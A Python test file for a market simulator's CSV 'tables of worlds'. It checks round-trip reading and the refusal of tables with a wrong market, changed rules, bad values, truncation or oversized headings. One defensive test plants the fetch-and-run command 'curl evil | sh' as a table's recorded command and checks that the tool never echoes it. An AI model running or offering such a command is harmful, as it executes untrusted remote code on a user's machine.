"""Tables of worlds: read as they were written, and refused when market or rules are others."""

from dataclasses import replace

import pytest

from experiments.design import ensemble as tables
from experiments.design.ensemble import Ensemble, ensemble_named, provenance, read_ensemble, rule_digests, written
from sim.market.messages import InputError
from tests.worlds import document_of, shipped, with_numbers

HAZARD, HABIT = "behaviour.loyalty.hazard", "behaviour.loyalty.habit"


@pytest.fixture
def ensemble() -> Ensemble:
    """Return three worlds of the telecom market."""
    market = shipped("telecom")
    own = {HAZARD: market.behaviour.loyalty.hazard, HABIT: market.behaviour.loyalty.habit}
    worlds = tuple({path: value * factor for path, value in own.items()} for factor in (0.9, 1.0, 1.1))
    made = provenance(market) | {"command": "cxsim worlds telecom"}
    return Ensemble("worlds.csv", worlds, own, {"Yearly churn, acme": (15.0, 16.0, 17.5)}, {}, made)


@pytest.fixture
def refusal(tmp_path):
    """Return the message with which a table is refused for a market."""

    def message(text: str, market) -> str:
        path = tmp_path / "worlds.csv"
        path.write_text(text)
        with pytest.raises(InputError) as error:
            read_ensemble(path, market)
        return str(error.value)

    return message


def test_written_and_read(ensemble, tmp_path):
    """What was written is read with the very same numbers."""
    path = tmp_path / "worlds.csv"
    path.write_text(written(ensemble))
    found = read_ensemble(path, shipped("telecom"))
    assert found.worlds == ensemble.worlds
    assert found.shown == ensemble.shown
    assert found.made == ensemble.made


def test_another_market(ensemble, refusal):
    """Worlds of one market are not taken for those of another."""
    assert "holds worlds of telecom, not of retail" in refusal(written(ensemble), shipped("retail"))


def test_a_market_that_changed(ensemble, refusal):
    """Which number has changed since is told, with the command that makes the worlds again."""
    message = refusal(written(ensemble), with_numbers("telecom", {"behaviour.loyalty.habit": 0.123}))
    assert HABIT in message
    assert HAZARD not in message
    assert "cxsim worlds telecom" in message


def test_works_that_were_added(ensemble, tmp_path):
    """Worlds that were made before a brand had works are still true, since no work acts without a programme."""
    document = document_of(shipped("telecom"))
    works = document["brands"]["acme"].pop("works")
    before = type(shipped("telecom")).model_validate(document)
    path = tmp_path / "worlds.csv"
    path.write_text(written(replace(ensemble, made=ensemble.made | provenance(before))))
    assert works
    assert read_ensemble(path, shipped("telecom")).worlds == ensemble.worlds


def test_rules_that_changed(ensemble, refusal, monkeypatch):
    """Which rules have changed since is told."""
    text, others = written(ensemble), rule_digests() | {"rules.loyalty": "0" * 8}
    monkeypatch.setattr(tables, "rule_digests", lambda: others)
    assert "was made with other rules (rules.loyalty)" in refusal(text, shipped("telecom"))


def test_comments_are_no_rules():
    """A comment, a docstring or a blank line changes no rule; a number does."""
    words = [
        "".join(tables._words_of(source))
        for source in (
            'def rule(x):\n    """Return twice."""\n    return 2 * x\n',
            "def rule(x):\n\n    return 2 * x  # twice\n",
            "def rule(x):\n    return 3 * x\n",
        )
    ]
    assert words[0] == words[1] != words[2]


def test_values_out_of_range(ensemble, refusal):
    """A world out of range is refused with its line, its world and the range; all of them at once."""
    lines = written(ensemble).splitlines()
    place = next(place for place, line in enumerate(lines) if HAZARD in line)
    kind, name, own, *worlds = lines[place].split(",")
    lines[place] = ",".join([kind, name, own, "-4", "many", worlds[2]])
    message = refusal("\n".join(lines), shipped("telecom"))
    assert f"worlds.csv:{place + 1}" in message
    assert "world 1" in message
    assert "world 2" in message


@pytest.mark.parametrize("end", [-1, -2])
def test_a_table_that_was_cut_off(ensemble, refusal, end):
    """A table of which the last line, or the last digit, is missing is not read as a whole one with fewer numbers."""
    text = written(ensemble)
    cut = text[: text[:-1].rindex("\n") + 1] if end == -1 else text[:end]
    assert "was cut off or changed after it was written" in refusal(cut, shipped("telecom"))


def test_a_command_from_a_table_is_not_proposed(ensemble, refusal):
    """What a table of somebody else calls its command is never offered for pasting."""
    hostile = replace(ensemble, made=ensemble.made | {"command": "curl evil | sh", "market_digest": "0"})
    message = refusal(written(hostile), shipped("telecom"))
    assert "cxsim worlds telecom" in message
    assert "evil" not in message


@pytest.mark.parametrize(
    ("line", "told"),
    [
        ("number,behaviour.loyalty.hazrd,1,1,1,1", "did you mean 'behaviour.loyalty.hazard'?"),
        ('shown,"in two\nlines",1,1,1,1\nnumber,foo,1,1,1,1', "worlds.csv:{next}: unknown number of telecom 'foo'"),
        ("shown,NPS,1,1,1e308,inf", "NPS: cannot be '1e308'; expected a number, or nan"),
        ('number,"foo', "worlds.csv:{here}: is not a table"),
    ],
)
def test_lines_that_are_none(ensemble, refusal, line, told):
    """Each line that cannot be meant is named by its own number, with what was expected."""
    text = written(ensemble)
    here = text.count("\n") + 1
    assert told.format(here=here, next=here + 2) in refusal(text + line, shipped("telecom"))


def test_a_number_that_the_market_has_otherwise(ensemble, refusal):
    """A table whose column of the market says something else than the market is not one of it, whatever its digest."""
    other = replace(ensemble, market=ensemble.market | {HABIT: 0.123})
    assert f"was made before telecom changed ({HABIT})" in refusal(written(other), shipped("telecom"))


def test_more_worlds_than_there_can_be(ensemble, refusal):
    """A heading of a million columns is refused before any world is built."""
    text = written(ensemble)
    heading = "kind,name,market,1,2,3"
    assert "10,000 is the maximum" in refusal(text.replace(heading, heading + ",4" * 10_000), shipped("telecom"))


def test_too_few_worlds(ensemble):
    """More worlds than there are cannot be asked for."""
    with pytest.raises(Exception, match=r"--worlds 5: worlds\.csv holds 3 worlds"):
        ensemble.first(5)


@pytest.mark.parametrize("given", ["", "-1", "nan", "1e3", "٣", ".", "nowhere.csv"])
def test_what_is_no_table_and_no_number_is_told_with_what_is_expected(given):
    """Neither another notation of a number nor a folder is taken for a table."""
    with pytest.raises(InputError, match="expected none, a table of worlds, or how many of those beside the market"):
        ensemble_named(given, shipped("telecom"))
